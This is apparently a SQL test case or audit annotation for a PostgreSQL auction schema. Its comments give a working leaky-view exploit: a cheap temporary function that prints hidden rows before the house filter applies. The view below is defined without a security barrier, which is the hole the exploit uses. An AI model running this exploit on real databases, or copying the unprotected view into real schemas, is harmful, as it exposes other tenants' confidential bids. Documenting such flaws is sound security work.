-- The view filters by house but is no barrier: a cheap function of the caller sees the rows of all before
-- the filter.
-- about: absentee_wishes
-- as: hf_auctions_app
-- exploit: SET app.house_id = '11111111-1111-1111-1111-111111111111';
-- exploit: CREATE FUNCTION pg_temp.peek(text) RETURNS boolean LANGUAGE plpgsql COST 0.0001 AS
-- exploit: $$BEGIN RAISE NOTICE 'seen %', $1; RETURN true; END$$;
-- exploit: SET enable_indexscan = off; SET enable_bitmapscan = off;
-- exploit: SELECT count(*) FROM auc.absentee_wishes WHERE pg_temp.peek(wish);
-- shows: seen Road-secret wish
-- Auctioneers see wishes, never the maximum.
CREATE VIEW auc.absentee_wishes AS
  SELECT a.id, a.wish FROM auc.absentee_bids a
   WHERE a.house_id = auc.current_house();
REVOKE SELECT ON auc.absentee_bids FROM hf_auctions_app;
GRANT SELECT ON auc.absentee_wishes TO hf_auctions_app;
